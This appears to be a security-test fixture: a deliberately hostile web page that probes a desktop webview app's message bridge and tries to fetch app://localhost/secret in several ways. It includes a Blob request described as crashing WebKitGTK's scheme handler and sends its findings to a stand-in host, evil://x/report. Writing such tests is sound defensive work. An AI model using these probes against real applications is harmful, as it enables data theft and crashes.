// A hostile page: tries every way it has to get an answer from the bus, and reports what
// it saw to its own origin (evil://x/report), which the test reads.
(async () => {
  const seen = { where: location.href, sandboxed: location.origin === 'null' || self.origin === 'null' };
  seen.handlerVisible = !!(window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.inprocBus);
  seen.ipcVisible = !!(window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.ipc);
  seen.relayVisible = typeof window.__inprocBusRelay !== 'undefined';
  seen.bridgeVisible = typeof window.InprocBusBridge !== 'undefined';
  try { seen.parentDocument = !!parent.document.body; } catch (e) { seen.parentDocument = e.name; }
  // Events on its own document: no relay listens here.
  document.dispatchEvent(new CustomEvent('inproc-bus-out', { detail: 'AQAAAAABAAAA' }));
  const attempt = async (label, run) => {
    try { const r = await run(); seen[label] = r && typeof r.status === 'number' ? (r.type === 'opaque' ? 'opaque' : r.status) : String(r); }
    catch (e) { seen[label] = e.name; }
  };
  await attempt('corsGet', () => fetch('app://localhost/secret'));
  await attempt('noCorsGet', () => fetch('app://localhost/secret', { mode: 'no-cors' }));
  await attempt('corsPost', () => fetch('app://localhost/secret', { method: 'POST', body: 'x' }));
  await attempt('noCorsPostNoReferrer', () => fetch('app://localhost/secret', { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body: 'x' }));
  // The body that crashes WebKitGTK's scheme handler when it is read: it must be refused unread.
  await attempt('blobPost', () => fetch('app://localhost/secret', { method: 'POST', mode: 'no-cors', body: new Blob(['crash me'], { type: 'text/plain' }) }));
  const fd = new FormData(); fd.append('f', new File(['x'.repeat(1000)], 'a.txt'));
  await attempt('fileFormPost', () => fetch('app://localhost/secret', { method: 'POST', mode: 'no-cors', body: fd }));
  await attempt('xhr', () => new Promise((resolve) => {
    const x = new XMLHttpRequest(); x.open('GET', 'app://localhost/secret');
    x.onload = () => resolve({ status: x.status }); x.onerror = () => resolve('error'); x.send();
  }));
  await fetch('evil://x/report', { method: 'POST', body: JSON.stringify(seen) }).catch(() => {});
})();
